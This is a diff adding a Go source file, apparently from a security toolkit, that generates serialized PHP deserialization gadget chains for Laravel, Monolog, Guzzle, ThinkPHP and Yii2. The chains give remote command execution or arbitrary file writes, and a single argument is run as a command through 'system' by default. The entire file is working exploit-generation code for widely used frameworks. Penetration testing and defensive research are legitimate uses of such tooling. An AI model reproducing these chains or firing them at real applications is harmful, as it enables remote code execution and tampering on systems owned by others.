@@ -0,0 +1,193 @@
+package php
+
+import (
+	"strings"
+
+	"github.com/yaklang/yaklang/common/utils"
+)
+
+const (
+	GadgetRCE       = "rce"
+	GadgetFileWrite = "file_write"
+)
+
+// GadgetInfo PHP 反序列化利用链，与 phpggc 中同名的利用链构造方式相同
+type GadgetInfo struct {
+	Name      string
+	Framework string
+	Version   string
+	Type      string
+	Desc      string
+	// Args 生成利用链需要的参数
+	Args     []string
+	generate func(args []string) *Value
+}
+
+var allGadgets = []*GadgetInfo{
+	{
+		Name:      "Laravel/RCE1",
+		Framework: "Laravel",
+		Version:   "5.4.27",
+		Type:      GadgetRCE,
+		Desc:      "PendingBroadcast::__destruct 调用 Faker\\Generator::__call，通过 formatters 调用任意函数",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			generator := NewObject(`Faker\Generator`).SetProtected("formatters", NewArray(map[string]any{"dispatch": args[0]}))
+			return pendingBroadcast(generator, args[1])
+		},
+	},
+	{
+		Name:      "Laravel/RCE2",
+		Framework: "Laravel",
+		Version:   "5.4.0 <= 8.6.9+",
+		Type:      GadgetRCE,
+		Desc:      "PendingBroadcast::__destruct 调用 Events\\Dispatcher::dispatch，事件监听器为任意函数",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			dispatcher := NewObject(`Illuminate\Events\Dispatcher`).SetProtected("listeners", NewArray().Set(args[1], NewArray(args[0])))
+			return pendingBroadcast(dispatcher, args[1])
+		},
+	},
+	{
+		Name:      "Monolog/RCE1",
+		Framework: "Monolog",
+		Version:   "1.4.1 <= 1.6.0, 1.17.2 <= 2.7.0+",
+		Type:      GadgetRCE,
+		Desc:      "SyslogUdpHandler::__destruct 关闭 BufferHandler，flush 时 processors 依次调用 current 与任意函数",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			newBufferHandler := func(handler *Value) *Value {
+				return NewObject(`Monolog\Handler\BufferHandler`).
+					SetProtected("handler", handler).
+					SetProtected("bufferSize", -1).
+					SetProtected("buffer", NewArray(NewArray(args[1], map[string]any{"level": nil}))).
+					SetProtected("level", nil).
+					SetProtected("initialized", true).
+					SetProtected("bufferLimit", -1).
+					SetProtected("processors", NewArray("current", args[0]))
+			}
+			return NewObject(`Monolog\Handler\SyslogUdpHandler`).SetProtected("socket", newBufferHandler(newBufferHandler(nil)))
+		},
+	},
+	{
+		Name:      "Guzzle/RCE1",
+		Framework: "Guzzle",
+		Version:   "6.0.0 <= 6.3.2",
+		Type:      GadgetRCE,
+		Desc:      "FnStream::__destruct 调用 HandlerStack::resolve，stack 中的任意函数以 handler 为参数调用",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			stack := NewObject(`GuzzleHttp\HandlerStack`).
+				SetPrivate("handler", args[1]).
+				SetPrivate("stack", NewArray(NewArray(args[0]))).
+				SetPrivate("cached", false)
+			return NewObject(`GuzzleHttp\Psr7\FnStream`).SetPublic("_fn_close", NewArray(stack, "resolve"))
+		},
+	},
+	{
+		Name:      "Guzzle/FW1",
+		Framework: "Guzzle",
+		Version:   "4.0.0-rc.2 <= 7.5.0+",
+		Type:      GadgetFileWrite,
+		Desc:      "FileCookieJar::__destruct 把 Cookie 以 JSON 格式写入任意文件，content 会出现在 JSON 中",
+		Args:      []string{"path", "content"},
+		generate: func(args []string) *Value {
+			cookie := NewObject(`GuzzleHttp\Cookie\SetCookie`).SetPrivate("data", NewArray(map[string]any{
+				"Expires": 1,
+				"Discard": false,
+				"Value":   args[1],
+			}))
+			return NewObject(`GuzzleHttp\Cookie\FileCookieJar`).
+				SetPrivateOf(`GuzzleHttp\Cookie\CookieJar`, "cookies", NewArray(cookie)).
+				SetPrivateOf(`GuzzleHttp\Cookie\CookieJar`, "strictMode", nil).
+				SetPrivate("filename", args[0]).
+				SetPrivate("storeSessionCookies", true)
+		},
+	},
+	{
+		Name:      "ThinkPHP/RCE1",
+		Framework: "ThinkPHP",
+		Version:   "5.1.x <= 5.2.x",
+		Type:      GadgetRCE,
+		Desc:      "Windows::__destruct 触发 Pivot::__toString，Request 的 filter 对 GET 参数调用任意函数（命令通过 GET 参数传入，parameter 不使用）",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			request := NewObject(`think\Request`).
+				SetProtected("hook", nil).
+				SetProtected("filter", args[0]).
+				SetProtected("config", NewArray().
+					Set("var_method", "_method").
+					// var_ajax 为空时 isAjax 把所有 GET 参数交给 filter 处理
+					Set("var_ajax", "").
+					Set("var_pjax", "_pjax").
+					Set("var_pathinfo", "s").
+					Set("pathinfo_fetch", NewArray("ORIG_PATH_INFO", "REDIRECT_PATH_INFO", "REDIRECT_URL")).
+					Set("default_filter", "").
+					Set("url_domain_root", "").
+					Set("https_agent_name", "").
+					Set("http_agent_ip", "HTTP_X_REAL_IP").
+					Set("url_html_suffix", "html"))
+			request.SetProtected("hook", NewArray(map[string]any{"visible": NewArray(request, "isAjax")}))
+			pivot := NewObject(`think\model\Pivot`).
+				SetProtected("append", NewArray(map[string]any{"yak": NewArray("yak", "yak")})).
+				SetPrivateOf(`think\Model`, "data", NewArray(map[string]any{"yak": request}))
+			return NewObject(`think\process\pipes\Windows`).SetPrivate("files", NewArray(pivot))
+		},
+	},
+	{
+		Name:      "Yii2/RCE1",
+		Framework: "Yii2",
+		Version:   "< 2.0.38",
+		Type:      GadgetRCE,
+		Desc:      "BatchQueryResult::__destruct 调用 Faker\\Generator::__call，通过 CreateAction::run 的 checkAccess 调用任意函数",
+		Args:      []string{"function", "parameter"},
+		generate: func(args []string) *Value {
+			action := NewObject(`yii\rest\CreateAction`).SetPublic("checkAccess", args[0]).SetPublic("id", args[1])
+			generator := NewObject(`Faker\Generator`).SetProtected("formatters", NewArray(map[string]any{"close": NewArray(action, "run")}))
+			return NewObject(`yii\db\BatchQueryResult`).SetPrivate("_dataReader", generator)
+		},
+	},
+}
+
+func pendingBroadcast(events *Value, event string) *Value {
+	return NewObject(`Illuminate\Broadcasting\PendingBroadcast`).SetProtected("events", events).SetProtected("event", event)
+}
+
+// GetAllGadgets 获取支持的 PHP 反序列化利用链
+func GetAllGadgets() []*GadgetInfo {
+	return allGadgets
+}
+
+func getGadgetInfo(name string) (*GadgetInfo, bool) {
+	for _, g := range allGadgets {
+		if strings.EqualFold(g.Name, name) {
+			return g, true
+		}
+	}
+	return nil, false
+}
+
+// GenerateGadget 生成 PHP 反序列化利用链对象，RCE 利用链的参数为 function 与 parameter，
+// 只传入一个参数时作为命令使用 system 执行；文件写入利用链的参数为 path 与 content
+func GenerateGadget(name string, args ...string) (*Value, error) {
+	info, ok := getGadgetInfo(name)
+	if !ok {
+		return nil, utils.Errorf("not support php gadget: %s", name)
+	}
+	if info.Type == GadgetRCE && len(args) == 1 {
+		args = []string{"system", args[0]}
+	}
+	if len(args) != len(info.Args) {
+		return nil, utils.Errorf("gadget %s requires arguments: %s", info.Name, strings.Join(info.Args, ", "))
+	}
+	return info.generate(args), nil
+}
+
+// GenerateGadgetBytes 生成序列化后的 PHP 反序列化利用链
+func GenerateGadgetBytes(name string, args ...string) ([]byte, error) {
+	v, err := GenerateGadget(name, args...)
+	if err != nil {
+		return nil, err
+	}
+	return v.Marshal(), nil
+}